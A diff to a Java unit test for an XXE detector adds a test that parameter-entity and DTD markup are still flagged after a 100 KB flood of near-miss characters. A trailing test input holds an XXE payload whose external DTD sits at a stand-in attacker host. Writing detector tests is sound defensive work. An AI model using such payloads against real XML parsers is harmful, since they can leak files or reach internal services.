@@ -54,6 +54,20 @@ class XxeDetectorTest {
     assertRule(XxeDetector.PARAMETER_ENTITY, value);
   }
 
+  @Test
+  void aParameterReferenceIsInDtdContextWhereverTheMarkupIsAfterAFlood() {
+    // "<!" is looked for only in a value with a "!", and both marks from their rarer character: near misses
+    // ("<x>", "] >") 100 KB long, then the mark
+    String flood = "%xy; <x> ] > <".repeat(100_000 / 14);
+    assertNull(detect(flood));
+    assertNull(detect(flood + " !"));
+    for (String mark : new String[] {"<!-- -->", "]>", "<!x"}) {
+      assertRule(XxeDetector.PARAMETER_ENTITY, flood + mark);
+      assertRule(XxeDetector.PARAMETER_ENTITY, mark + flood);
+      assertEquals(detect("%xy; " + mark), detect(flood + mark));
+    }
+  }
+
   @ParameterizedTest
   @ValueSource(strings = {
       "<!DOCTYPE data SYSTEM \"http://attacker.example/evil.dtd\"><data>&send;</data>",
